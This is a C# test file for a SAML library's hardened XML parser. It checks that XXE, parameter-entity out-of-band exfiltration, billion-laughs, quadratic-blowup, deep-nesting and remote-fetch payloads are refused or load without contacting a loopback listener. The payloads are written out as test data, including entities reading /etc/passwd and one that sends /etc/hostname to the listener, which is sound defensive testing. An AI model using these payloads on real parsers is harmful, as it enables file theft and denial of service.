using System.Text;
using System.Xml;

using Verify.Saml.Errors;
using Verify.Saml.Tests.Support;
using Verify.Saml.Xml;

using static Verify.Saml.Tests.Support.AttackMessages;

namespace Verify.Saml.Tests.Attacks;

/// <summary>
/// Attacks on the parser itself, before any signature is looked at (ARCHITECTURE.md: outside XML is
/// size-limited and parsed without DTDs or external entities; SAML Core 1.3 forbids DTDs). Each payload is
/// fed through all four <see cref="SecureXml"/> entry points, and anything that names a URL names a
/// loopback listener that must never see a connection.
/// </summary>
public sealed class XmlParsingAttackTests
{
    public enum Input
    {
        Text,
        Utf8Bytes,
        Stream,

        /// <summary>Read straight into another document (decrypted content: <see cref="SecureXml.LoadElement"/>).</summary>
        IntoDocument,
    }

    /// <param name="Payload">Builds the payload from the loopback listener's base URL.</param>
    /// <param name="Expected">The refusal, or <see cref="SamlErrorCode.None"/> when the document may load but must fetch nothing.</param>
    public sealed record ParsingCase(string Name, Func<string, string> Payload, SamlErrorCode Expected)
    {
        public override string ToString() => Name;
    }

    private const string Root = "<samlp:Response xmlns:samlp=\"urn:oasis:names:tc:SAML:2.0:protocol\" ID=\"_r\">";

    private static readonly int Limit = (int)SecureXmlOptions.Default.MaxCharacters;

    private static readonly ParsingCase[] Catalogue =
    [
        new("PlainDoctype", _ => "<!DOCTYPE samlp:Response>" + ResponseXml, SamlErrorCode.XmlDoctypeForbidden),
        new("InternalEntityNamingTheVictim", _ => $"<!DOCTYPE r [<!ENTITY v \"{VictimNameId}\">]>{Root}&v;</samlp:Response>", SamlErrorCode.XmlDoctypeForbidden),
        new("ExternalEntityToLoopbackHttp", url => $"<!DOCTYPE r [<!ENTITY x SYSTEM \"{url}xxe\">]>{Root}&x;</samlp:Response>", SamlErrorCode.XmlDoctypeForbidden),
        new("ExternalEntityToEtcPasswd", _ => $"<!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>{Root}&x;</samlp:Response>", SamlErrorCode.XmlDoctypeForbidden),
        new("ParameterEntityXxe", url => $"<!DOCTYPE r [<!ENTITY % p SYSTEM \"{url}p.dtd\"> %p;]>{Root}</samlp:Response>", SamlErrorCode.XmlDoctypeForbidden),
        new("ParameterEntityOutOfBandExfiltration", url => $"<!DOCTYPE r [<!ENTITY % f SYSTEM \"file:///etc/hostname\"><!ENTITY % d \"<!ENTITY &#x25; e SYSTEM '{url}?%f;'>\"> %d; %e;]>{Root}</samlp:Response>", SamlErrorCode.XmlDoctypeForbidden),
        new("ExternalDtdSubset", url => $"<!DOCTYPE r SYSTEM \"{url}x.dtd\">{Root}</samlp:Response>", SamlErrorCode.XmlDoctypeForbidden),
        new("BillionLaughs", _ => BillionLaughs(), SamlErrorCode.XmlDoctypeForbidden),
        new("QuadraticBlowup", _ => $"<!DOCTYPE r [<!ENTITY a \"{new string('a', 50_000)}\">]>{Root}{string.Concat(Enumerable.Repeat("&a;", 10_000))}</samlp:Response>", SamlErrorCode.XmlDoctypeForbidden),
        new("UndeclaredEntityWithoutDoctype", _ => $"{Root}&v;</samlp:Response>", SamlErrorCode.XmlMalformed),
        new("DeepNesting10000Levels", _ => Nested(10_000), SamlErrorCode.XmlTooDeep),
        new("NestingOneLevelOverTheLimit", _ => Nested(SecureXmlOptions.Default.MaxDepth + 1), SamlErrorCode.XmlTooDeep),
        new("ThousandAttributesOnOneElement", _ => WithAttributes(1_000, i => $" a{i}=\"x\""), SamlErrorCode.XmlTooManyAttributes),
        new("AttributesOneOverTheLimit", _ => WithAttributes(SecureXmlOptions.Default.MaxAttributesPerElement + 1, i => $" a{i}=\"x\""), SamlErrorCode.XmlTooManyAttributes),
        new("HundredNamespaceDeclarations", _ => WithAttributes(100, i => $" xmlns:p{i}=\"urn:p{i}\""), SamlErrorCode.XmlTooManyAttributes),
        new("OversizeDocument", _ => Padded(Limit * 2), SamlErrorCode.XmlTooLarge),
        new("OversizeByOneCharacter", _ => Padded(Limit + 1), SamlErrorCode.XmlTooLarge),
        new("XmlStylesheetInstructionToLoopback", url => $"<?xml-stylesheet type=\"text/xsl\" href=\"{url}x.xsl\"?>{ResponseXml}", SamlErrorCode.None),
        new("XIncludeToLoopback", url => $"{Root}<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" href=\"{url}xi\"/></samlp:Response>", SamlErrorCode.None),
        new("SchemaLocationToLoopback", url => $"<samlp:Response xmlns:samlp=\"urn:oasis:names:tc:SAML:2.0:protocol\" xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\" xsi:schemaLocation=\"urn:oasis:names:tc:SAML:2.0:protocol {url}x.xsd\" ID=\"_r\"/>", SamlErrorCode.None),
        new("NestingAtTheLimit_BoundaryControl", _ => Nested(SecureXmlOptions.Default.MaxDepth), SamlErrorCode.None),
        new("AttributesAtTheLimit_BoundaryControl", _ => WithAttributes(SecureXmlOptions.Default.MaxAttributesPerElement, i => $" a{i}=\"x\""), SamlErrorCode.None),
        new("SizeAtTheLimit_BoundaryControl", _ => Padded(Limit), SamlErrorCode.None),
    ];

    private static IEnumerable<TestCaseData> Attacks() =>
        from attack in Catalogue
        from input in Enum.GetValues<Input>()
        select new TestCaseData(attack, input)
            .SetName($"SecureXml_{(attack.Expected == SamlErrorCode.None ? "LoadsWithoutFetching" : "Refuses")}{attack.Name}_From{input}");

    [Test]
    public void AttackLoopback_SeesAConnection_SoNeverContactedMeansSomething()
    {
        using var loopback = new AttackLoopback();
        loopback.SelfTest();
    }

    [TestCaseSource(nameof(Attacks))]
    public void SecureXml_RefusesParserAttack(ParsingCase attack, Input input)
    {
        using var loopback = new AttackLoopback();
        var xml = attack.Payload(loopback.Url(""));

        if (attack.Expected == SamlErrorCode.None)
        {
            Assert.That(Load(xml, input).DocumentElement?.LocalName, Is.EqualTo("Response"));
        }
        else
        {
            AttackAssert.Refuses(attack.Expected, () => Load(xml, input));
        }

        loopback.AssertNeverContacted();
    }

    private static XmlDocument Load(string xml, Input input) => input switch
    {
        Input.Text => SecureXml.Load(xml),
        Input.Utf8Bytes => SecureXml.Load(Encoding.UTF8.GetBytes(xml)),
        Input.Stream => SecureXml.Load(new MemoryStream(Encoding.UTF8.GetBytes(xml))),
        _ => IntoDocument(xml),
    };

    private static XmlDocument IntoDocument(string xml)
    {
        var owner = new XmlDocument { PreserveWhitespace = true };
        owner.AppendChild(SecureXml.LoadElement(owner, Encoding.UTF8.GetBytes(xml)));
        return owner;
    }

    private static string BillionLaughs()
    {
        var entities = new StringBuilder("<!ENTITY lol0 \"lol\">");
        for (var i = 1; i <= 9; i++)
        {
            entities.Append($"<!ENTITY lol{i} \"{string.Concat(Enumerable.Repeat($"&lol{i - 1};", 10))}\">");
        }

        return $"<!DOCTYPE r [{entities}]>{Root}&lol9;</samlp:Response>";
    }

    /// <summary>A Response whose element depth is exactly <paramref name="depth"/> (the root is depth 1).</summary>
    private static string Nested(int depth) =>
        Root + string.Concat(Enumerable.Repeat("<x>", depth - 1)) + string.Concat(Enumerable.Repeat("</x>", depth - 1)) + "</samlp:Response>";

    /// <summary>A Response root with <paramref name="count"/> attributes in all, namespace declarations included.</summary>
    private static string WithAttributes(int count, Func<int, string> attribute) =>
        "<samlp:Response xmlns:samlp=\"urn:oasis:names:tc:SAML:2.0:protocol\"" + string.Concat(Enumerable.Range(0, count - 1).Select(attribute)) + "/>";

    /// <summary>The valid Response padded with whitespace to exactly <paramref name="length"/> characters (ASCII, so bytes too).</summary>
    private static string Padded(int length) => ResponseXml + new string(' ', length - ResponseXml.Length);
}
